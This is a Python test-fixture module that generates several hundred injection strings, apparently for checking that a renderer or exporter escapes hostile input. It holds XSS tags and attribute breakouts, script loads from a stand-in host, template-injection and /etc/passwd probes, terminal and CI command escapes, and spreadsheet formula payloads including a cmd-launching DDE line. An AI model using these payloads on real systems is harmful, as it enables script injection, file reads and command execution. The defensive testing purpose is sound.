"""Texts that try to get out of where they are shown: markup, addresses, formulas, terminal codes, templates.

`MARK` stands in each payload that could run; a page where it became an element, a request or a message has failed.
"""

MARK = "pwned7f3"
_ACT = f"alert('{MARK}')"
_HOST = f"https://{MARK}.example"

_TAGS = (
    "<script>{act}</script>",
    "<ScRiPt>{act}</sCrIpT>",
    "</script><script>{act}</script>",
    "<script src={host}/x.js></script>",
    "<script type=module>{act}</script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<!--><script>{act}</script-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<img src=x onerror={act}>",
    '<img src="{host}/i.png">',
    '<img srcset="{host}/i.png 1x">',
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    '<svg><image href="{host}/i.png"/></svg>',
    '<svg><use href="{host}/u.svg#x"/></svg>',
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<iframe src=javascript:{act}></iframe>",
    '<iframe srcdoc="<script>{act}</script>"></iframe>',
    "<object data={host}/o></object>",
    "<embed src={host}/e>",
    "<video><source onerror={act}></video>",
    '<video poster="{host}/p.png"></video>',
    "<audio src={host}/a.mp3 autoplay>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<select autofocus onfocus={act}>",
    "<form action={host}><button>x</button></form>",
    "<button formaction=javascript:{act}>x</button>",
    "<a href=javascript:{act}>x</a>",
    "<a href='java\tscript:{act}'>x</a>",
    "<a href={host} ping={host}>x</a>",
    '<base href="{host}/">',
    '<link rel=stylesheet href="{host}/s.css">',
    '<link rel=prefetch href="{host}/f">',
    '<meta http-equiv=refresh content="0;url={host}">',
    '<meta http-equiv="Content-Security-Policy" content="">',
    "<style>@import '{host}/s.css'; body {{ display: none }}</style>",
    '<div style="background:url({host}/b.png)">',
    "<p style='position:fixed;inset:0'>",
    "<template><script>{act}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "<textarea></textarea><img src=x onerror={act}>",
    "<title></title><img src=x onerror={act}>",
    "</style><img src=x onerror={act}>",
    "</textarea><img src=x onerror={act}>",
    "--><img src=x onerror={act}>",
    "<x contenteditable autofocus onfocus={act}>",
    "<marquee onstart={act}>",
    "<portal src={host}>",
)
_ATTRIBUTES = (
    '" onmouseover={act} x="',
    "' onfocus={act} autofocus x='",
    '"><img src=x onerror={act}>',
    "'><script>{act}</script>",
    "` onmouseover={act} `",
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "data:text/html,<script>{act}</script>",
    "vbscript:{act}",
    '\\"-{act}-\\"',
    "';{act};//",
    '");{act};//',
    "${{{act}}}",
    "\u2028{act}\u2029",
    "#cases?status=<script>{act}</script>",
    "</option></select><img src=x onerror={act}>",
    "]]><script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;script&#62;{act}",
    "\\u003cscript\\u003e{act}",
    "%3Cscript%3E{act}",
    "+ADw-script+AD4-{act}",
    "\ufeff<script>{act}</script>",
    "<\x00script>{act}</script>",
    "\uff1cscript\uff1e{act}",
)
_TEMPLATES = (
    "{{{{ 7 * 191 }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}}",
    "{{# comment #}}",
    "{{0.__class__}}",
    "%(x)s %s %n",
    "__proto__",
    "constructor",
    "toString",
    "python:open('/etc/passwd')",
    "file:///etc/passwd",
)
_MARKDOWN = (
    "![x]({host}/i.png)",
    "[x](javascript:{act})",
    "<{host}>",
    "{host}/auto",
    "www.{mark}.example",
    "| a | b |",
    "```\n# head\n```",
    "@{mark} #1 :tada:",
    "</details><h1>{mark}</h1>",
    "\\| \\` \\<",
)
_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;{host}\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\r::error::{mark}",
    "::set-env name=X::{mark}",
    "::add-path::/tmp/{mark}",
    "[bold red]{mark}[/]",
    "[link={host}]x[/link]",
    "\u202e\u2066{mark}\u2069",
    "\x00\x08\x7f",
    "a\u200bb\ufeffc",
)
_FORMULAS = (
    "=1+1",
    "=HYPERLINK(\"{host}\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1",
    "\u00a0+1",
    "|cmd",
    "\n=1",
)  # fmt: skip

_SHAPES = (_TAGS, _ATTRIBUTES, _TEMPLATES, _MARKDOWN, _TERMINAL, _FORMULAS)


def _filled(shape: str) -> str:
    return shape.format(act=_ACT, host=_HOST, mark=MARK)


FORMULAS = [_filled(shape) for shape in _FORMULAS]
PAYLOADS = [_filled(shape) for shapes in _SHAPES for shape in shapes]
"""About 120 texts; with their variants in `hostile` about 500."""


def hostile() -> list[str]:
    """Every payload as it is, in a sentence, twice, and behind a line break."""
    return [text for one in PAYLOADS for text in (one, f"Please {one} thanks", one + one, f"x\n{one}")]
